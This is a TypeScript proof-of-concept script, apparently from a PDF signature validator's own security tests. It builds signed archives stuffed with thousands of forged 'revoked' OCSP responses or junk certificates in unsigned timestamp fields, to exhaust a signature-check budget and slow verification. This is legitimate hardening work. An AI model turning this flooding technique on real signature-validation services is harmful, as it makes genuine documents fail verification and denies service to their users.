// D2's fix (be850b4) bounds the OCSP signature checks of one run: OCSP_SIGNATURE_BUDGET (4,096) checks with
// candidates the CA authorised, then a response is "not checked" (INDETERMINATE, workBudget) and, when it says
// "revoked", blocks the seal (unverifiedSignature). The budget is spendable by anyone: a response naming the seal's CA
// as its responder (by name: the CA certificate is then an authorised candidate, "issuing-ca") costs one check
// whatever key signed it, and responses are read from every timestamp's CMS, whose `crls` field is unsigned and not
// counted against maxValidationDataItems. So 4,097 junk responses "revoked" about the seal, signed by anyone's key,
// make any genuine archive INDETERMINATE: the first 4,096 are checked, fail and are ignored; the rest block.
// EU DSS checks each response's signature and drops them.
// D2c (the same file, other mode): items in timestamps' CMS are counted against no limit (the DSS's are, at 1,000),
// and each costs ~20 ms of decoding per verification: N responses about a certificate nobody asks about keep the
// verdict and make verify take N x 20 ms (4,000: 85 s), with no bound but the file's size.
// The same for certificates (certs mode): N junk certificates of distinct names in the tokens' certificate sets, ~5 ms
// each (3,000: 15 s; 6,000: 31 s).
//   npx tsx scripts/attack-s8/ocsp-budget.ts [flood|honest|other|certs] [N]
// flood: samples/valid/archive.pdf plus two document timestamps (the test PKI's TSA, 2026-01-10) whose tokens' crls
// fields also hold N (default 4,200) OCSP responses (id-ri-ocsp-response), each "revoked 2025-12-08T08:00Z" about
// the seal, responder by name "NETS AS Intermediate CA", signed with a key of one's own. honest: the same with N=0,
// or N below the budget (e.g. `honest 2000`). other: the N responses are about "Foreign Token Signer" (a
// certificate of an untrusted CA no check asks about): time only. DSS=1 adds EU DSS (now).
import { generateRsaKey } from "../generator/keys.js";
import { createTimestampToken } from "../generator/cms.js";
import { createOcspResponse } from "../generator/ocsp.js";
import { encode, implicitConstructed, oid, OIDS, raw } from "../generator/der.js";
import { issueCertificate, serialFor } from "../generator/pki.js";
import { dss, pki, sample, save, show, tool, verify, work } from "../attack36/lib.js";
import { withCmsField, withDocTimestamp } from "./lib.js";

const mode = process.argv[2] ?? "flood";
if (!["flood", "honest", "other", "certs"].includes(mode)) throw new Error(`mode: flood|honest|other|certs, not ${mode}`);
const n = Number(process.argv[3] ?? (mode === "flood" ? 4200 : 0));
const P = pki();
const key = generateRsaKey(1024); // anyone's: its size matters to no check (the CA's key is the one tried)
const anyone = { ...P.sealRoot, key }; // the CA's name and certificate, anyone's key
const t0 = Date.now();
// certs: N self-signed certificates of distinct names in the tokens' (unsigned) certificate sets instead.
const certificate = (i: number) =>
  issueCertificate({
    subject: [
      [OIDS.country, "DK"],
      [OIDS.commonName, `Junk ${i}`],
    ],
    subjectKey: key,
    notBefore: new Date("2020-01-01T00:00:00Z"),
    notAfter: new Date("2125-01-01T00:00:00Z"),
    serial: serialFor(`attack-s8-junk-${i}`),
    extensions: [],
  });
const junk = Array.from({ length: n }, (_, i) =>
  mode === "certs"
    ? certificate(i)
    : encode(
        implicitConstructed(1, [
          oid("1.3.6.1.5.5.7.16.2"),
          raw(
            createOcspResponse({
              subject: mode === "other" ? P.foreignTokenSigner : P.seal,
              issuer: mode === "other" ? P.foreignRoot : P.sealRoot,
              responder: anyone,
              responderId: "byName",
              certs: [],
              archiveCutoff: null,
              nextUpdate: null,
              status: { revokedAt: new Date("2025-12-08T08:00:00Z"), reason: 1 },
              producedAt: new Date(Date.parse("2026-01-01T00:00:00Z") + i * 1000),
            }),
          ),
        ]),
      ),
);
// Two document timestamps, half the responses in each (the generator's placeholder search reads 4 MB of an object).
let pdf = sample("valid/archive.pdf");
for (const [k, part] of [junk.slice(0, n >> 1), junk.slice(n >> 1)].entries()) {
  const genTime = new Date(Date.parse("2026-01-10T12:00:00Z") + k * 3600_000);
  const reserve = 32 * 1024 + part.reduce((s, j) => s + j.length, 0);
  pdf = withDocTimestamp(
    pdf,
    P,
    reserve,
    (signed) => withCmsField(createTimestampToken({ tsa: P.tsa, data: signed, genTime, serial: 20260110 + k }), mode === "certs" ? 0xa0 : 0xa1, part),
    `ArchiveTimestamp${k + 1}`,
  );
}
const file = save(work(`s8-ocsp-budget-${mode}-${n}`), "archive.pdf", pdf);
console.log(`wrote ${file} (${(pdf.length / 1e6).toFixed(1)} MB, ${n} junk responses, made in ${Date.now() - t0} ms)`);
const t1 = Date.now();
show(`${mode} ${n}`, verify(file));
console.log(`   (verify: ${Date.now() - t1} ms)`);
console.log(
  "== pdfsig:",
  tool("pdfsig", [file])
    .split("\n")
    .filter((l) => /Signature Validation/.test(l))
    .map((l) => l.trim())
    .join(" | "),
);
dss(file);
